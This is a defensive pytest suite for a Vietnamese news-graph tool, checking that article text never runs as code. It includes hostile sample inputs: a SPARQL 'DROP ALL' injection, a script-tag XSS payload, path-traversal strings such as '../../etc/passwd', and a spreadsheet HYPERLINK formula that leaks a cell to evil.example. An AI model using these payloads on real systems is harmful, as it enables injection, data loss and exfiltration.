"""Hostile text: article text never runs as code. Not in the pages (escaped), not in SPARQL
(the store's updates, the command line, push), not in IRIs (always valid), not in file
names (never out of their folder), not in spreadsheets (formula cells neutralised)."""
from __future__ import annotations

import csv
import json
import re

import pyoxigraph as ox
import pytest
from hypothesis import given, settings, strategies as st
from rdflib import Graph

import robust_counts
from test_push import oxigraph, push  # noqa: F401  (oxigraph: the server fixture)

from cadregraph.exports.files import inside
from cadregraph.exports.tables import neutralise
from cadregraph.graph.rdf import Minter
from cadregraph.graph.resolve import body_id, directive_id, person_id, post_id
from cadregraph.graph.sparql import query_endpoint
from cadregraph.graph.store import GraphStore
from cadregraph.sources.readers import safe_id

from test_robust_inputs import ARTICLE, runner
from cadregraph.cli import main

pytestmark = pytest.mark.robust

DROP = '" } ; DROP ALL ; {'
SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
HOSTILE_ID = 'a"b <c> {d} |e| ^f` g\\h'
IRI_FORBIDDEN = re.compile(r'[\x00-\x20<>"{}|\\^`]')


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory):
    """A build of articles whose every field is hostile."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "in").mkdir()
    records = [
        {"id": HOSTILE_ID, "title": SCRIPT, "locality": DROP, "url": "javascript:alert(1)",
         "text": f"{FORMULA}\n{ARTICLE}Đồng chí {SCRIPT} phát biểu {DROP}.\n"},
        {"id": "../../thoat-ra", "title": FORMULA, "locality": "Hải Phòng", "url": f"https://x.example/{SCRIPT}",
         "text": ARTICLE.replace("Hải Phòng", "Hà Nội")},
    ]
    (root / "in" / "hostile.jsonl").write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in records) + "\n",
                                               encoding="utf-8")
    out = root / "out"
    result = runner().invoke(main, ["build", str(root / "in"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    robust_counts.add("hostile inputs", 12)
    return out


def test_the_store_keeps_hostile_text_as_data(hostile_out):
    with GraphStore.open(hostile_out) as store:
        assert store.verify() == []
        assert len(store.article_graphs()) == 2  # DROP ALL dropped nothing
        rows = list(store.query("SELECT DISTINCT ?l WHERE { ?a a schema:NewsArticle ; cg:locality ?l }",
                                prefixes={"schema": "https://schema.org/", "cg": "https://cadregraph.org/ontology#"}))
        assert sorted(r["l"].value for r in rows) == sorted([DROP, "Hải Phòng"])
        iris = {t.value for q in store.quads() for t in (q.subject, q.predicate, q.object, q.graph_name)
                if isinstance(t, ox.NamedNode)}
    for iri in iris:
        assert not IRI_FORBIDDEN.search(iri), iri
        assert "/../" not in iri and not iri.endswith("/..")
    graph = Graph().parse(hostile_out / "graph.ttl", format="turtle")
    assert any(str(o) == DROP for o in graph.objects())
    assert runner().invoke(main, ["validate", "--out", str(hostile_out)]).exit_code == 0


def test_pages_escape_article_text(hostile_out):
    pages = list((hostile_out / "site").rglob("*.html")) + list((hostile_out / "site").rglob("*.js"))
    shown = 0
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "<script>alert(" not in html and "javascript:alert" not in html, page
        shown += "&lt;script&gt;alert(" in html
    assert shown  # the text is on the pages, escaped
    for page in (hostile_out / "site").rglob("*"):
        assert inside(hostile_out / "site", str(page.relative_to(hostile_out / "site")))


def test_tables_neutralise_formulas_and_keep_the_rest(hostile_out):
    with (hostile_out / "tables" / "articles.csv").open(encoding="utf-8", newline="") as f:
        rows = {r["article_id"]: r for r in csv.DictReader(f)}
    assert set(rows) == {safe_id(HOSTILE_ID), ".._.._thoat-ra"}
    assert rows[".._.._thoat-ra"]["title"] == "'" + FORMULA
    assert rows[safe_id(HOSTILE_ID)]["locality"] == DROP  # starts with '"': not a formula, left alone
    for table in (hostile_out / "tables").glob("*.csv"):
        with table.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not (len(cell) > 1 and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?[\d.,]+", cell)), cell


@pytest.mark.parametrize("command", [
    ["sparql", "DROP ALL"],
    ["sparql", "CLEAR ALL ; DROP ALL"],
    ["person", DROP], ["body", DROP], ["directive", DROP], ["meeting", DROP], ["holders", DROP],
    ["sparql", f"SELECT * WHERE {{ ?s ?p {json.dumps(DROP)} }}"],
])
def test_command_line_input_is_never_run_as_an_update(hostile_out, command):
    with GraphStore.open(hostile_out) as store:
        before = {str(q) for q in store.quads()}
    result = runner().invoke(main, [command[0], *command[1:], "--out", str(hostile_out)])
    assert result.exit_code in (0, 1, 2), result.output
    if command[0] == "sparql" and "DROP" in command[1] and "SELECT" not in command[1]:
        assert result.exit_code == 2 and "does not parse" in result.stderr
    with GraphStore.open(hostile_out) as store:
        assert {str(q) for q in store.quads()} == before
    robust_counts.add("hostile inputs")


@pytest.mark.parametrize("protocol, path", [("update", "/update"), ("gsp", "/store")])
def test_push_carries_hostile_text_as_data(hostile_out, oxigraph, protocol, path):  # noqa: F811
    result = push(hostile_out, "--endpoint", oxigraph + path, "--protocol", protocol)
    assert result.exit_code == 0, result.output
    rows = query_endpoint(f"{oxigraph}/query", "SELECT DISTINCT ?l WHERE { GRAPH ?g { ?a "
                                               "<https://cadregraph.org/ontology#locality> ?l } }")
    assert DROP in {r["l"] for r in rows}
    [count] = query_endpoint(f"{oxigraph}/query", "SELECT (COUNT(DISTINCT ?g) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } }")
    with GraphStore.open(hostile_out) as store:
        assert int(count["n"]) == len(store.graphs())


# -- IRIs, ids and file names from any text ---------------------------------------------------

@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_iris_minted_from_any_text_are_valid(text):
    mint = Minter("https://cadregraph.org/id/")
    ids = [person_id(text), body_id(text), directive_id(text, text, text), post_id(text, body_id(text))]
    iris = [mint(i) for i in ids] + [mint.article(safe_id(text) if text.strip() else "x")]
    for iri in iris:
        assert not IRI_FORBIDDEN.search(str(iri))
        ox.NamedNode(str(iri))  # a valid IRI, or this raises
        assert "/../" not in str(iri) and not str(iri).endswith(("/..", "/."))
    for i in ids:
        assert re.fullmatch(r"[a-z]+/[a-z0-9-]+(--[a-z0-9-]+)?", i), i
    robust_counts.add("hostile inputs")


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=150) | st.sampled_from(["..", ".", "../../etc/passwd", "/etc/passwd", "CON", "a/../../b",
                                                "\x00", "~", "C:\\Windows", "person/../../x"]))
def test_file_names_made_from_any_text_stay_in_their_folder(tmp_path_factory, text):
    site_paths = pytest.importorskip("cadregraph.exports.site_paths")
    folder = tmp_path_factory.getbasetemp() / "site"
    paths = [site_paths.article_path(text), site_paths.page_path(f"person/{text}") or "person/x.html"]
    for rel in paths:
        target = inside(folder, *rel.split("/"))
        assert target.parent.parent == folder.resolve() and target.name.endswith(".html")
        assert len(target.name.encode("utf-8")) < 255
    robust_counts.add("hostile inputs")


def test_inside_refuses_paths_out_of_the_folder(tmp_path):
    (tmp_path / "site").mkdir()
    (tmp_path / "site" / "link").symlink_to(tmp_path)
    for names in (["..", "x"], ["/etc/passwd"], ["a", "..", "..", "b"], ["link", "x"], ["."]):
        with pytest.raises(ValueError, match="leads out of"):
            inside(tmp_path / "site", *names)
    assert inside(tmp_path / "site", "person", "a.html") == (tmp_path / "site" / "person" / "a.html").resolve()


@given(st.text(min_size=2))
def test_neutralised_cells_never_start_a_formula(text):
    cell = neutralise(text)
    number = re.fullmatch(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?", text)
    assert cell == text if number or text[0] not in "=+-@\t\r" else cell == "'" + text


@pytest.mark.parametrize("value", ["-5", "-0,5", "+84", "2023-11-04", "-1e3", "Bí thư", "'quoted", "12-KH/TU"])
def test_ordinary_values_are_not_altered(value):
    assert neutralise(value) == value
